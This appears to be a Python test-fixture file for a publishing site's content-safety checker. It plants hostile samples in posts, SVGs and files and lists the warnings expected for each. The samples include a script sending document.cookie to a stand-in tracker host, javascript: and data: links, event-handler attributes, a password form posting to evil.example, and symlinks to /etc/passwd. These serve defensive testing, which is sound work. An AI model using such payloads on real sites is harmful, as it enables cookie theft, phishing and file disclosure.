"""Hostile or careless content, every case in one copy built once
(tests/editors/test_content_safety_cli.py): files that must not be read or
published, HTML outside the allowlist, what a browser would run, links."""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import replace as replace_case
from pathlib import Path

from tests.conftest import ROOT
from tests.editors.faults.case import Case, Expect
from tests.mutations import append, write

EN_ARTICLE = "en/articles/shrinking-civic-space.md"
EN_EDITION = "en/editions/2023.md"
EN_REPORT = "en/publications/privacy-attitudes-survey.md"


def lines_in(rel: str) -> int:
    return len((ROOT / "content" / rel).read_text(encoding="utf-8").splitlines())


# --- ways to break content/ ----------------------------------------------------------


def link(rel: str, target: str) -> Callable[[Path], None]:
    def mutate(content: Path) -> None:
        (content / rel).parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, content / rel)

    return mutate


def folder(rel: str) -> Callable[[Path], None]:
    def mutate(content: Path) -> None:
        (content / rel).mkdir(parents=True)
        (content / rel / "inside.md").write_text(POST.format(slug="inside"), encoding="utf-8")

    return mutate


def both(*mutations: Callable[[Path], None]) -> Callable[[Path], None]:
    def mutate(content: Path) -> None:
        for one in mutations:
            one(content)

    return mutate


POST = "Title: A post\nDate: 2023-10-01 10:00\nLang: en\nSlug: {slug}\n\nText.\n"
SCRIPT_POST = (
    "Title: A post\nDate: 2023-10-01 10:00\nLang: en\nSlug: other\n\n"
    "<script>fetch('https://tracker.example/?c=' + document.cookie)</script>\n"
)


def at(file: str, line: int | None, field: str, words: tuple[str, ...]) -> Expect:
    return Expect(file, field, words, line)


def case(id, mutate, file, line, field_, *words):
    return Case(id, mutate, (at(file, line, field_, words),))


def own_post(id: str, body: str = "", summary: str | None = None) -> str:
    """A post of its own for one case: the text after "Text." starts on line 7
    (on line 8 with a Summary, which is line 5)."""
    header = f"Title: Case {id}\nDate: 2023-10-01 10:00\nLang: en\nSlug: case-{id}\n"
    if summary is not None:
        header += f"Summary: {summary}\n"
    return header + "\nText.\n" + body


def html_case(id, text, line, *words):
    """`text` after the first paragraph of a post of its own; the finding is
    expected on `line` of `text` (1 for its first line)."""
    rel = f"en/news/case-{id}.md"
    return case(id, write(rel, own_post(id, text)), rel, 6 + line, "html", *words)


def appended_case(id, rel, text, line, *words):
    """`text` appended to an existing file (an edition, a report)."""
    return case(id, append(rel, text), rel, lines_in(rel) + line, "html", *words)


def summary_case(id, summary, *words):
    rel = f"en/news/case-{id}.md"
    return case(id, write(rel, own_post(id, summary=summary)), rel, 5, "summary", *words)


OUTSIDE = "outside the content folder: the build would publish whatever it points to"
LOOP = "leads back to a folder it is in (a loop"
FILE_CASES = [
    case(
        "symlink-to-etc",
        link("files/x", "/etc"),
        "files/x",
        None,
        "file",
        "a symbolic link to /etc, " + OUTSIDE,
        "copy into content/ only the file you mean to publish",
    ),
    case("symlink-to-itself", link("files/loop", "."), "files/loop", None, "file", LOOP),
    case("symlink-to-parent", link("images/up", ".."), "images/up", None, "file", LOOP),
    case(
        "symlinks-in-a-ring",
        both(link("images/to-files", "../files"), link("files/to-images", "../images")),
        "files/to-images",
        None,
        "file",
        LOOP,
        "delete the link",
    ),
    case(
        "symlink-to-nothing",
        link("images/photo.jpg", "/nonexistent/photo.jpg"),
        "images/photo.jpg",
        None,
        "file",
        "a symbolic link to /nonexistent/photo.jpg, which does not exist",
    ),
    case(
        "dangling-md-symlink",
        link("en/news/gone.md", "missing.md"),
        "en/news/gone.md",
        None,
        "file",
        "a symbolic link to missing.md, which does not exist",
        "put the file itself here",
    ),
    case(
        "md-symlink-out-of-content",
        link("en/news/elsewhere.md", "/etc/passwd"),
        "en/news/elsewhere.md",
        None,
        "file",
        "a symbolic link to /etc/passwd, " + OUTSIDE,
    ),
    case(
        "folder-symlink-in-language-folder",
        link("en/news/more", "../articles"),
        "en/news/more",
        None,
        "file",
        "a symbolic link to a folder",
        "move or copy the files here",
    ),
    case(
        "folder-named-x-md",
        folder("en/news/summer.md"),
        "en/news/summer.md",
        None,
        "file",
        "a folder named like a content file (summer.md)",
        "rename the folder, e.g. to summer",
    ),
    case(
        "markdown-extension",
        write("en/news/post.markdown", POST.format(slug="other")),
        "en/news/post.markdown",
        None,
        "file",
        "a .markdown file",
        "save it as post.md",
    ),
    case(
        "html-article-with-script",
        write("en/articles/page.html", SCRIPT_POST),
        "en/articles/page.html",
        None,
        "file",
        "an HTML file",
        "write the text in Markdown and save it as page.md",
    ),
    Case(
        "every-other-reader-extension",
        both(
            write("en/pages/notes.rst", "Title\n=====\n"),
            write("en/news/a.mkd", POST.format(slug="a")),
            write("ar/news/b.mdown", POST.format(slug="b")),
            write("en/pages/c.htm", SCRIPT_POST),
            write("en/news/Upper.MD", POST.format(slug="upper")),
        ),
        (
            at("en/pages/notes.rst", None, "file", ("a .rst file", "save it as notes.md")),
            at("en/news/a.mkd", None, "file", ("a .mkd file", "save it as a.md")),
            at("ar/news/b.mdown", None, "file", ("a .mdown file", "save it as b.md")),
            at("en/pages/c.htm", None, "file", ("an HTML file", "save it as c.md")),
            at("en/news/Upper.MD", None, "file", ("must be lowercase", "rename it to Upper.md")),
        ),
    ),
]

HTML_CASES = [
    html_case(
        "script",
        "<script>alert(document.cookie)</script>\n",
        1,
        "<script>: scripts cannot run",
        "ask a developer to add a component",
    ),
    html_case(
        "iframe",
        '\n<iframe src="https://www.youtube.com/embed/xyz"></iframe>\n',
        2,
        "<iframe>: embedded pages and players are not allowed",
        "write a Markdown link instead: [what it is](https://…)",
    ),
    html_case(
        "style-element",
        "\n<style>body { display: none }</style>\n",
        2,
        "<style>: styles cannot be written in a text",
    ),
    html_case(
        "event-handler",
        '<img src="{static}/images/editions-timeline.svg" alt="Editions" onerror="alert(1)">\n',
        1,
        "onerror= on <img>: an event handler runs script",
        "delete it",
    ),
    html_case(
        "style-attribute",
        '<span style="color: red">Urgent</span>\n',
        1,
        "style= on <span>: styles are not allowed",
        "leave the look to the stylesheet",
    ),
    html_case(
        "javascript-markdown-link",
        "[Read more](javascript:alert(document.cookie))\n",
        1,
        "a javascript: link runs script when clicked",
        "[text](https://…)",
    ),
    html_case(
        "javascript-link-in-entities",
        '<a href="&#106;ava&#x73;cript:alert(1)">Read more</a>\n',
        1,
        "a javascript: link",
    ),
    html_case(
        "javascript-in-a-reference",
        "Read [the call][call].\n\n[call]: JavaScript:alert(1)\n",
        3,
        "a javascript: link",
    ),
    html_case(
        "data-link",
        "[Open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n",
        1,
        "a data: link carries a whole document inside the link",
    ),
    html_case("vbscript-link", '<a href="vbscript:msgbox(1)">Open</a>\n', 1, "a vbscript: link"),
    html_case(
        "meta-refresh",
        '\n<meta http-equiv="refresh" content="0; url=https://evil.example/">\n',
        2,
        '<meta http-equiv="refresh">: a redirect is not allowed',
        "write a link to the new page",
    ),
    Case(
        "object-embed-form-base",
        write(
            "en/news/case-object.md",
            own_post(
                "object",
                '\n<object data="x.swf"></object>\n\n<embed src="x.swf">\n\n'
                '<form action="https://evil.example/"><input name="password"></form>\n\n'
                '<base href="https://evil.example/">\n',
            ),
        ),
        (
            at("en/news/case-object.md", 8, "html", ("<object>: embedded pages",)),
            at("en/news/case-object.md", 10, "html", ("<embed>: embedded pages",)),
            at(
                "en/news/case-object.md",
                12,
                "html",
                ("<form>: forms are not allowed", "[Register]"),
            ),
            at("en/news/case-object.md", 12, "html", ("<input>: forms are not allowed",)),
            at("en/news/case-object.md", 14, "html", ("<base>: page-level tags",)),
        ),
    ),
    html_case(
        "remote-markdown-image",
        "![A crowd](https://tracker.example/crowd.jpg)\n",
        1,
        "an image from another host (https://tracker.example/crowd.jpg)",
        "write ![what it shows]({static}/images/name.jpg)",
    ),
    html_case(
        "remote-html-image",
        '<img src="https://tracker.example/pixel.gif" alt="">\n',
        1,
        "an image from another host (https://tracker.example/pixel.gif)",
        "save the image in content/images/",
    ),
    html_case(
        "remote-image-by-reference",
        "![A crowd][crowd]\n\n[crowd]: //tracker.example/crowd.jpg\n",
        1,
        "an image from another host (//tracker.example/crowd.jpg)",
    ),
    html_case(
        "data-image",
        "![Logo](data:image/png;base64,iVBORw0KGgo=)\n",
        1,
        "an image written into the text (data:) is not allowed",
    ),
    html_case(
        "attribute-list-handler",
        '\n## More {: onclick="alert(1)" }\n',
        2,
        "{: onclick } (an attribute list): an event handler runs script",
    ),
    html_case(
        "fenced-code-attributes",
        '\n```{ .js onmouseover="alert(1)" }\nlet x = 1;\n```\n',
        2,
        "{: onmouseover } (an attribute list)",
    ),
    html_case(
        "table-column-alignment",
        "\n| Country | Cases |\n|:--------|------:|\n| Lebanon | 12 |\n",
        3,
        "a table column aligned with :",
        "remove the colons from this line",
    ),
    html_case(
        "html-comment",
        "<!-- note to self: the source is the minister's aide -->\n",
        1,
        "comments are published in the page source",
        "keep notes outside the file",
    ),
    html_case(
        "script-in-a-list-item",
        "\n- An item\n\n    <script>alert(1)</script>\n",
        4,
        "<script>: scripts cannot run",
    ),
    html_case(
        "script-in-backticks-inside-an-html-block",
        "\n<div>\n`<script>alert(1)</script>`\n</div>\n",
        3,
        "<script>: scripts cannot run",
    ),
    appended_case(
        "script-in-an-edition", EN_EDITION, "\n<script>alert(1)</script>\n", 2, "<script>"
    ),
    appended_case(
        "iframe-in-a-report",
        EN_REPORT,
        '\n<iframe src="https://maps.example/embed"></iframe>\n',
        2,
        "<iframe>",
    ),
    summary_case(
        "summary-javascript-link", "[Thank you](javascript:alert(1))", "a javascript: link"
    ),
    summary_case(
        "summary-remote-image",
        "![x](https://tracker.example/p.gif) Thanks",
        "an image from another host (https://tracker.example/p.gif)",
    ),
    summary_case(
        "summary-attribute-list",
        '*Thank you*{: onmouseover="alert(1)" }',
        "{: onmouseover } (an attribute list)",
    ),
]

# Issue 18: what a browser would run, if the build published it raw.
HOSTILE_SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
  <rect width="10" height="10" onclick="alert(1)"/>
  <script>alert(document.domain)</script>
  <foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>
  <use xlink:href="https://tracker.example/sprite.svg#a"/>
  <circle r="4" fill="url(#ok)"/>
</svg>
"""
RUNS = "would run it on the site's own address"
RUN_SVG = "an SVG on this site may hold only shapes, paths, text, gradients and filters"


def svg_line(line: int, *words: str) -> Expect:
    return at("images/logo.svg", line, "file", (*words, RUN_SVG, "as a PNG"))


ACTIVE_CASES = [
    case(
        "html-file",
        write("files/flyer.html", "<script>fetch('/')</script>"),
        "files/flyer.html",
        None,
        "file",
        "a web page (flyer.html)",
        RUNS,
        "write it as a page instead (content/<lang>/pages/<name>.md)",
        "put it in a .zip",
    ),
    case("htm-file", write("files/a.HTM", "x"), "files/a.HTM", None, "file", "a web page", RUNS),
    case("xhtml-file", write("images/a.xhtml", "x"), "images/a.xhtml", None, "file", "a web page"),
    case("js-file", write("files/app.js", "x"), "files/app.js", None, "file", "a script", "zip"),
    case("mjs-file", write("extra/app.mjs", "x"), "extra/app.mjs", None, "file", "a script"),
    # beside a post, where a {static} link would publish it from
    case("js-in-a-language-folder", write("en/news/c.js", "x"), "en/news/c.js", None, "file", RUNS),
    case(
        "xml-with-a-stylesheet",
        write("files/data.xml", '<?xml version="1.0"?>\n<?xml-stylesheet href="s.xsl"?>\n<a/>'),
        "files/data.xml",
        2,
        "file",
        "an XML file a browser would display as a page",
        RUNS,
    ),
    case(
        "xml-with-html-in-it",
        write(
            "files/page.xml",
            '<?xml version="1.0"?>\n<data>\n<html xmlns="http&#x3a;//www.w3.org/1999/xhtml">'
            "<script>alert(1)</script></html>\n</data>\n",
        ),
        "files/page.xml",
        3,
        "file",
        "an XML file a browser would display as a page",
    ),
    Case(
        "svg-with-script",
        write("images/logo.svg", HOSTILE_SVG),
        (
            svg_line(2, "onclick= runs a script"),
            svg_line(3, "<script>"),
            svg_line(4, "<foreignObject>"),
            svg_line(4, "<p>, an HTML element"),
            svg_line(5, "href='https://tracker.example/sprite.svg#a' loads something from outside"),
        ),
    ),
    case(
        "svg-outside-the-static-folders",  # published all the same once a post links it
        both(
            write("media/chart.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>'),
            write(
                "en/news/case-media.md", own_post("media", "![A chart]({static}/media/chart.svg)")
            ),
        ),
        "media/chart.svg",
        1,
        "file",
        "onload= runs a script",
        RUN_SVG,
    ),
    case(
        "static-link-to-a-symlink-out",  # outside the folders the walk checks
        both(
            link("media/secret", "/etc/passwd"),
            write("en/news/case-secret.md", own_post("secret", "[x]({static}/media/secret)")),
        ),
        "en/news/case-secret.md",
        7,
        "link",
        "content/media/secret is a symbolic link to a file outside the content folder",
        "copy the file itself into content/ instead",
    ),
    case(
        "svg-with-entities",
        write(
            "images/bomb.svg",
            '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY a "aaaa">]>\n'
            '<svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text></svg>\n',
        ),
        "images/bomb.svg",
        1,
        "file",
        "declares its own DOCTYPE entities",
    ),
    case(
        "svg-that-does-not-parse",
        write("images/broken.svg", '<svg xmlns="http://www.w3.org/2000/svg">\n<g>\n</svg>\n'),
        "images/broken.svg",
        3,
        "file",
        "not a valid SVG",
        "export it again",
    ),
]

# Issue 17: links the build would not resolve, refused by the checker as well.
LINK_CASES = [
    case(
        "fragment-names-no-heading",
        write(
            "en/news/case-fragment.md",
            own_post(
                "fragment",
                "[x]({filename}/en/articles/breadnet-over-the-years.md#screen-years)\n",
            ),
        ),
        "en/news/case-fragment.md",
        7,
        "link",
        "#screen-years names no heading in content/en/articles/breadnet-over-the-years.md",
        "its headings are: #the-screen-years, #back-in-the-city",
    ),
    case(
        "filename-to-a-file",
        write(
            "en/news/case-file.md",
            own_post("file", "[x]({filename}/images/editions-timeline.svg)\n"),
        ),
        "en/news/case-file.md",
        7,
        "link",
        "images/editions-timeline.svg is a file, not a page:",
        "write {static}/images/editions-timeline.svg",
    ),
    case(
        "unknown-link-kind",
        write("en/news/case-kind.md", own_post("kind", "[x]({file}/en/news/x.md)\n")),
        "en/news/case-kind.md",
        7,
        "link",
        "{file} is not a kind of link the site knows",
        "{filename}/<lang>/<folder>/<file>.md",
    ),
]


def built_together(group: str, cases: list[Case]) -> list[Case]:
    return [replace_case(one, together=True, group=group) for one in cases]


SAFETY_CASES = (
    built_together("files", FILE_CASES)
    + built_together("html", HTML_CASES)
    + built_together("active", ACTIVE_CASES)
    + built_together("links", LINK_CASES)
)
